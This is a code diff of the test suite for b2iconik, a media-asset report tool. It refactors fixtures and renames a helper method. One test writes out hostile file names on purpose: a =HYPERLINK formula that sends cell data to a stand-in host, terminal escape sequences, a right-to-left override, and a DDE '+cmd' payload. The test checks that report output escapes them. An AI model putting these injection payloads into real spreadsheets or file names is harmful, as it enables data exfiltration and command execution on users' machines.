@@ -14,15 +14,12 @@ from b2iconik import __main__ as cli
 from b2iconik.report import command as report
 from b2iconik.progress_bar import ProgressBar
 from b2iconik.units import human_bytes, parse_age, parse_size, parse_watermarks
-from tests.helpers.lucidlink_world import CATEGORY, env_for, make_world, standard
+from tests.helpers.world import CATEGORY, standard_world
 
 
 @pytest.fixture
 def world(emulator, monkeypatch):
-    world = standard(make_world(emulator))
-    env_for(world, monkeypatch)
-    emulator.reset_counts()
-    return world
+    return standard_world(emulator, monkeypatch)
 
 
 def expected_bytes(world, category=None):
@@ -111,8 +108,8 @@ HOSTILE = '=HYPERLINK("http://x.example/?"&A1)\x1b]0;owned\x07\x1b[2J\r\u202e.mo
 
 def test_names_are_formula_escaped_in_the_csv_cleaned_on_the_terminal_and_the_files_are_private(world, capsys,
                                                                                               tmp_path):
-    world.add(HOSTILE, "corrupt", 4321, 100)  # kept, with its file name in the reason printed
-    world.add("+cmd|' /C calc'!A0.mov", "safe", 4567, 100)
+    world.aged_asset(HOSTILE, "corrupt", 4321, 100)  # kept, with its file name in the reason printed
+    world.aged_asset("+cmd|' /C calc'!A0.mov", "safe", 4567, 100)
     paths = {kind: tmp_path / f"lucidlink.{kind}" for kind in ("csv", "json", "html")}
     paths["csv"].write_text("an older report")
     paths["csv"].chmod(0o644)
@@ -136,7 +133,7 @@ def test_a_stale_listing_is_corrected_by_each_assets_fresh_read(world, capsys, t
     emu.faults.listing_lag = True
     gone = next(a for a in world.assets.values() if a.kind == "safe")
     emu.world.purge(gone.ll_file_set)  # removed after the index was taken
-    late = world.add("late.mov", "safe", 333, 1)  # added after: the stale listing does not show it
+    late = world.aged_asset("late.mov", "safe", 333, 1)  # added after: the stale listing does not show it
 
     code, out, err = run_report(capsys, "--json", str(tmp_path / "r.json"))
 
